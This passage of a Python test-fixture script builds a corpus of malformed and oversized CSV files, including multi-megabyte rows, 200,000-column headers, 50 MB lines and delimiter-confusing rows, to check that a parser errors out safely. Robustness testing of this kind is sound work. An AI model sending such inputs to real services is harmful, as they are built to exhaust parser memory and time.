        path.write_bytes(head + unit * ((50 * 1024 * 1024 - 200) // len(unit)) + b"\r\n")
    return write


def _quoted_line_breaks(path: Path) -> None:
    # A real export with multi-line addresses, larger than Arrow's one-megabyte blocks.
    rows = (b'D%d,' % i + GOOD.format(i).encode() + b',"12 Main St\r\nFlat %d"\r\n' % i for i in range(60_000))
    path.write_bytes(b"document_id,file_url,address\r\n" + b"".join(rows))


def _sniffed_from_wide_rows(path: Path) -> None:
    rows = b"".join(b"D%d," % i + GOOD.format(i).encode() + b"\r\n" for i in range(300_000))
    path.write_bytes(b"document_id,file_url\r\n" + (b"D" + b";x" * 6_000 + b"\r\n") * 6 + rows)


HOSTILE_ROWS = [
    Case("wide_row_400kb.csv", "error", _wide_row(200_000)),
    Case("wide_row_1mb.csv", "error", _wide_row(500_000)),
    Case("wide_header_200k_columns.csv", "error", _text(
        b"document_id,file_url," + b",".join(b"c%d" % i for i in range(200_000)) + b"\r\nD1,"
        + GOOD.format(1).encode() + b"\r\n")),
    Case("unclosed_quote.csv", "error", _text(
        b"document_id,file_url\r\nD1," + GOOD.format(1).encode() + b'\r\n"D2,' + GOOD.format(2).encode()
        + b"\r\nD3," + GOOD.format(3).encode() + b"\r\n")),
    Case("short_rows_then_wide_row.csv", "error", _short_rows_then_wide, big=True),
    Case("fifty_mb_line.csv", "error", _fifty_mb(b"z"), big=True),
    Case("fifty_mb_of_delimiters.csv", "error", _fifty_mb(b","), big=True),
    Case("fifty_mb_of_fields.csv", "error", _fifty_mb(b"ab,"), big=True),
    Case("blank_line_flood.csv", "error", _fifty_mb(b"\n", lines=True), big=True),
    Case("quoted_line_breaks_over_a_block.csv", "report", _quoted_line_breaks, big=True),
    # Wide rows of semicolons fill the sniffed sample and outvote the comma header; the 300,000
    # comma rows after them would each be padded to 6,001 columns.
    Case("wide_rows_sniffed_as_semicolons.csv", "error", _sniffed_from_wide_rows, big=True),
]


def write_all(folder: Path, *, big: bool = True) -> list[tuple[Case, Path]]:
    """Write the corpus (without the big files when ``big`` is false); (case, path) pairs."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for case in cases():
        if case.big and not big:
            continue
        path = folder / case.name
        case.write(path)
        written.append((case, path))
    return written


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-out")
    for case, path in write_all(out):
        print(f"{path.stat().st_size:>12,}  {case.expect:<6}  {path}")
